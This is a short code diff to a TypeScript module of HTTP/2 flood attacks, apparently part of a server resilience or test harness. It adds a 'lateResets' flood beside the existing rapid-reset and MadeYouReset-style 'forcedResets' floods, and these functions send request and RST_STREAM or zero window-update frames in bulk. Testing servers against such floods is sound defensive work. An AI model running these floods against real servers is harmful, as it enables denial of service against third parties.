@@ -10,6 +10,9 @@ export const attacks: Readonly<Record<Flood, (peer: RawPeer, count: number) => v
   resets: (peer, count) => {
     for (let i = 0; i < count; i++) peer.send(frames.request(2 * i + 1, false), frames.reset(2 * i + 1, errorCode.cancel));
   },
+  lateResets: (peer, count) => {
+    peer.send(frames.request(1, false), frames.reset(1, errorCode.cancel), ...Array.from({ length: count }, () => frames.reset(1, errorCode.cancel)));
+  },
   forcedResets: (peer, count) => {
     // MadeYouReset: a request is served, and then this side is made to reset it.
     for (let i = 0; i < count; i++) peer.send(frames.request(2 * i + 1, false), frames.windowUpdate(2 * i + 1, 0));
